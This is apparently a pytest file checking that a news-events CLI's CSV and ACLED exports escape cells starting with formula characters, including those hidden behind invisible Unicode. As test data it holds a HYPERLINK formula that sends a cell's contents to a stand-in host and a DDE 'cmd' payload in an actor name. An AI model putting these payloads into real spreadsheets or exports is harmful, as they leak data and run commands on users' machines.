"""The spreadsheet formula guard of every CSV/TSV export (issue 17.9): a cell whose first character
a spreadsheet acts on is '=', '+', '-' or '@' is guarded, also behind characters it does not show."""
from __future__ import annotations

import csv
import io

import pytest

from contract_docs import event, make_doc
from newsevents.cli import main
from newsevents.export.guard import guard
from newsevents.store import open_store

FORMULA = '=HYPERLINK("http://evil.invalid/?leak="&A1,"click")'
HIDDEN_PREFIXES = {
    "space": " ", "spaces and tab": "  \t", "no-break space": "\u00a0", "zero-width space": "\u200b",
    "zero-width joiner": "\u200d", "byte-order mark": "\ufeff", "newline": "\n", "CR LF": "\r\n",
    "right-to-left override": "\u202e", "left-to-right isolate": "\u2066", "right-to-left mark": "\u200f",
    "word joiner": "\u2060", "ideographic space": "\u3000", "mixed": " \u00a0\u200b\ufeff\u202e ",
}


@pytest.mark.parametrize("prefix", HIDDEN_PREFIXES.values(), ids=HIDDEN_PREFIXES.keys())
@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_hidden_characters_before_a_formula_do_not_hide_it(prefix, trigger):
    value = prefix + trigger + "SUM(1+1)"
    assert guard(value) == "'" + value


@pytest.mark.parametrize("value", ["police raided a house", "Mitrovica", "6 injured", "e-mail", "a=b", "", "\u00a0x"])
def test_ordinary_text_is_unchanged(value):
    assert guard(value) == value


def test_numbers_are_never_guarded():
    assert guard(-9.0) == -9.0 and guard(-3) == -3


def _run(capsys, *args) -> str:
    try:
        main(list(args))
    except SystemExit as exc:
        assert not exc.code, capsys.readouterr().err
    return capsys.readouterr().out


@pytest.mark.parametrize("prefix", [" ", "\u00a0", "\u200b", "\ufeff", "\n", "\u202e", "\uff1d"])
def test_exported_csv_cells_are_guarded(capsys, tmp_path, prefix):
    text = f"{prefix}{FORMULA} was posted. Then police raided a house."
    evidence = f"{prefix}{FORMULA} was posted"
    doc = make_doc("formula", text, events=[event(text, 1, "COERCE", evidence, codes={
        "acled_event_type": "Strategic developments", "acled_sub_event_type": "Other"}, actors=[
        {"name": prefix + "=cmd|' /C calc'!A0", "entity": None, "sector": None, "country": None}])])
    db = str(tmp_path / "f.db")
    store = open_store(db)
    store.save(doc)
    store.close()
    for fmt in ("csv", "acled"):
        out = _run(capsys, "export", "-f", fmt, "--db", db)
        row = next(csv.DictReader(io.StringIO(out)))
        column = "evidence" if fmt == "csv" else "notes"
        assert row[column] == "'" + evidence, (fmt, row[column])
        actor_column = "actors" if fmt == "csv" else "actor1"
        assert row[actor_column].startswith("'"), (fmt, row[actor_column])
